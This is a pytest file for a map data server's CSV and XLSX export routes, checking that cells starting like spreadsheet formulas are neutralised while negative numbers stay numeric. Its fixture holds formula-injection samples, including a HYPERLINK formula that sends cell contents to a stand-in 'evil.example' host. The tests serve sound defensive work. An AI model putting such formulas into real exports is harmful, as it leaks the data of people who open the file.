"""Exports safe to open: text that starts like a formula is neutralised in CSV (server and page) and kept as
text in XLSX, through the download routes; numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from data.store import make_dataset, write_version
from tests.conftest import grid_dataset
from tileserver import create_app

REPO = Path(__file__).resolve().parents[1]
NAMES = {
    "0201C1000": '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "0201C1001": "+46 8 123 45",
    "0201C1002": "-Söder",
    "0201C1003": "@SUM(A1:A9)",
    "0201C1004": "\tTabb",
    "0201C1005": "\rRetur",
}


@pytest.fixture
def hostile(tmp_path):
    base = grid_dataset()
    areas = base.areas.copy()
    areas["name"] = [NAMES.get(code, name) for code, name in zip(areas["code"], areas["name"], strict=True)]
    values = base.values.copy()
    values.loc[values["indicator"] == "income", "value"] *= -1  # negative numbers
    dataset = make_dataset(areas, values, base.indicators, base.meta)
    write_version(tmp_path / "data", dataset)
    return create_app({"DATA": str(tmp_path / "data")}).test_client()


def test_csv_cells_that_start_like_formulas_are_neutralised(hostile):
    for query, sep in (("years=2021", ","), ("years=2021&decimal=comma", ";")):
        text = hostile.get(f"/api/export/0201.csv?{query}").get_data().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text), delimiter=sep))
        header, data = rows[0], {row[0]: row for row in rows[1:] if row}
        name, income = header.index("name"), header.index("income_2021")
        for code, raw in NAMES.items():
            assert data[code][name] == "'" + raw, (code, data[code][name])
        assert data["0201C1010"][name] == "Område 10"  # plain text untouched
        assert float(data["0201C1000"][income].replace(",", ".")) < 0  # a negative number stays a number


def test_xlsx_text_that_starts_like_a_formula_is_a_string_cell(hostile, tmp_path):
    path = tmp_path / "export.xlsx"
    path.write_bytes(hostile.get("/api/export/0201.xlsx?years=2021").get_data())
    sheet = openpyxl.load_workbook(path)["Data"]
    header = [c.value for c in sheet[1]]
    name, income = header.index("name") + 1, header.index("income_2021") + 1
    cells = {sheet.cell(r, 1).value: r for r in range(2, sheet.max_row + 1)}
    for code, raw in NAMES.items():
        cell = sheet.cell(cells[code], name)
        assert cell.data_type == "s", (code, cell.data_type, cell.value)
        assert cell.value.strip() == raw.strip()  # (XML keeps a CR as a line break)
    negative = sheet.cell(cells["0201C1000"], income)
    assert negative.data_type == "n" and negative.value < 0
    frame = pd.read_excel(path, sheet_name="Data")  # a second reader agrees
    assert frame.loc[frame["code"] == "0201C1000", "name"].item() == NAMES["0201C1000"]


@pytest.mark.skipif(shutil.which("node") is None, reason="node (which builds the web map) is not installed")
def test_the_page_csv_cells_pass_node_tests():
    result = subprocess.run(
        ["node", "--test", "web/test/"], cwd=REPO, capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "# pass 3" in result.stdout and "# fail 0" in result.stdout
